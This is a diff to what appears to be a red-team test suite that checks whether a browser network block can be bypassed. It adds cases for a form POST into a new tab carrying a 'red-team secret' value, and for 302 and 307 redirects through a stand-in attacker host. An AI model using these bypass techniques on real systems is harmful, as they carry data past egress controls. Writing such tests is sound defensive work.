@@ -72,8 +72,8 @@ function aim({ scheme = 'https', host = 'api', spell = (h) => h, port, as }: Aim
 }
 
 /** Through the attacking site's redirect: the first hop is unblocked, the second is the target. */
-function viaRedirect(inner: ReturnType<typeof aim>) {
-  return (role: Role, token: string) => `https://${ATTACKER}/rt-redirect?to=${encodeURIComponent(inner(role, token))}`;
+function viaRedirect(inner: ReturnType<typeof aim>, code: 302 | 307 = 302) {
+  return (role: Role, token: string) => `https://${ATTACKER}/rt-redirect?code=${code}&to=${encodeURIComponent(inner(role, token))}`;
 }
 
 type RtCall = readonly [fn: string, url: string, args: string[]];
@@ -207,6 +207,24 @@ export const CASES: RedTeamCase[] = [
       return seen;
     },
   },
+  {
+    id: 'formblank',
+    technique: 'form POST into a new tab (target=_blank)',
+    url: aim({ host: 'chat', as: 'html' }),
+    run: async (ctx, url) => {
+      const page = await ctx.fresh();
+      const [popup] = await Promise.all([
+        page.waitForEvent('popup', { timeout: 4000 }),
+        page.evaluate((u) => {
+          const form = Object.assign(document.createElement('form'), { action: u, method: 'post', target: '_blank' });
+          form.append(Object.assign(document.createElement('input'), { name: 'note', value: 'red-team secret' }));
+          document.body.append(form);
+          form.submit();
+        }, url),
+      ]);
+      return where(popup, ctx);
+    },
+  },
   { id: 'worker', technique: 'dedicated worker fetch', url: aim(), run: inPage('worker') },
   { id: 'importscripts', technique: 'worker importScripts()', url: aim({ as: 'js' }), run: inPage('workerImportScripts') },
   { id: 'sharedworker', technique: 'shared worker fetch', url: aim(), run: inPage('sharedWorker') },
@@ -236,7 +254,8 @@ export const CASES: RedTeamCase[] = [
     },
   },
   { id: 'cspreport', technique: 'CSP report-uri', url: aim(), run: inPage('cspReport') },
-  { id: 'redirfetch', technique: 'redirect from an unblocked host (fetch)', url: viaRedirect(aim()), run: inPage('fetch') },
+  { id: 'redirfetch', technique: 'redirect from an unblocked host (fetch, 302)', url: viaRedirect(aim()), run: inPage('fetch') },
+  { id: 'redir307', technique: 'redirect from an unblocked host (POST body kept, 307)', url: viaRedirect(aim(), 307), run: inPage('fetch') },
   { id: 'redirimg', technique: 'redirect from an unblocked host (<img>)', url: viaRedirect(aim({ as: 'img' })), run: inPage('image') },
   {
     id: 'redirnav',
